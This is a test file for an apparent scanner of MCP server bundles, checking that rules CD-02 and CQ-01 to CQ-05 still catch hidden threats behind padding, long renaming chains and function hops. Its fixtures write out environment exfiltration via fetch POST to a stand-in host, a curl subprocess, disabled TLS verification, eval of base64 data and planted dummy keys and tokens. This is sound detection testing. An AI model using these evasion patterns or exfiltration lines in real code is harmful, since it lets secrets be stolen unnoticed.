import { expect } from 'chai';
import { bundleOf, resultOf } from '../../support/certified-bundle.ts';

const TOOL = `import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { z } from 'zod';
const server = new McpServer({ name: 'echo', version: '1.0.0' });
`;
const SEND = "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify";
const many = (count: number, line: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => line(index)).join('');
/** The last of many names for the same thing. */
const renamed = (first: string) =>
  `const a0 = ${first};\n${many(500, (at) => `const a${at + 1} = a${at};\n`)}`;

/** The environment through so many functions, the last of which is first, and open. */
const handedOn = (count: number) => {
  const hops = Array.from({ length: count }, (_, at) => `function f${at}(x) { f${at + 1}(x); }\n`);
  return `${hops.reverse().join('')}f0(process.env);\nfunction f${count}(x) { `;
};

const of = (text: string) => bundleOf({ 'server/more.js': text });

describe('what is hidden behind much else', () => {
  it('is found by CD-02 behind a hundred variables that block nothing', async () => {
    const reads = many(100, (index) => `process.env.V${index};\n`);
    const bytes = of(`${reads}import cp from 'node:child_process'; cp.execFile('curl', ['x']);\n`);
    const { status, findings } = await resultOf(bytes, 'CD-02');
    expect(status).to.equal('fail');
    expect(findings.filter(({ blocks }) => blocks === 2).map(({ title }) => title)).to.deep.equal([
      'The program "curl" is run, which the permissions do not declare',
    ]);
  });

  it('is not passed by CD-02 behind more than anybody has', async () => {
    const reads = many(6000, (index) => `process.env.V${index};\n`);
    expect(await resultOf(of(reads), 'CD-02')).to.deep.include({
      status: 'skip',
      reason: '"server/more.js" cannot be read as code: it is too large.',
    });
  });

  it('is found by CQ-03 behind fifty problems that block nothing', async () => {
    const tool = `server.registerTool('echo', { inputSchema: { u: z.string() } }, async ({ u }) => fetch(u));\n`;
    const bytes = of(`${TOOL}${many(60, () => tool)}process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';\n`);
    expect(await resultOf(bytes, 'CQ-03')).to.include({ status: 'fail' });
  });

  it('is found by CQ-01 behind keys that everybody knows', async () => {
    const key =
      '-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEI0d2fYq3mYtC5bq2mS9Lw8vF0aK7sJ1hR6xN4eTgUoPz\n-----END PRIVATE KEY-----\n';
    const token = `ghp_${'aZ3kQ9xL2mB7nV5cR8tY1wE4uI6oP0sD'}fGhJ\n`;
    const bytes = bundleOf({ 'node_modules/zod/test/keys.txt': `${many(12, () => key)}${token}` });
    const { status, findings } = await resultOf(bytes, 'CQ-01');
    expect(findings.some(({ blocks }) => blocks === null)).to.equal(true);
    expect(status).to.equal('fail');
  });

  it('is not passed by CQ-02 behind more names than are followed', async () => {
    expect(await resultOf(of(`${renamed('process.env')}${SEND}(a500) });\n`), 'CQ-02')).to.deep.include({
      status: 'skip',
      allows: 0,
    });
  });

  it('is found by CQ-02 at the end of a server that is bundled into one large file', async () => {
    const packages = many(25_000, (at) => `p${at}(a.x, b[${at}], [c, d.e, q(f)]);\n`);
    const suspicious = "eval(q('a')); Buffer.from(q('b'), 'base64');\n";
    const send = `${handedOn(8)}${SEND}(x) }); }\n`;
    const { status } = await resultOf(of(`${packages}${suspicious}${send}`), 'CQ-02');
    expect(status).to.equal('fail');
  });

  it('is found by CQ-02 behind functions that hand it on, and not passed behind too many', async () => {
    expect(await resultOf(of(`${handedOn(12)}${SEND}(x) }); }\n`), 'CQ-02')).to.include({ status: 'fail' });
    expect(await resultOf(of(`${handedOn(40)}${SEND}(x) }); }\n`), 'CQ-02')).to.include({ allows: 0 });
  });

  it('is told by CQ-05 when nobody can say what is called', async () => {
    const bytes = of(`${renamed('fetch')}a500('https://c.example.net');\n`);
    const { status, findings } = await resultOf(bytes, 'CQ-05');
    expect(status).to.equal('fail');
    expect(findings[0]?.title).to.equal('What is called here stands behind too many names to be followed');
  });
});
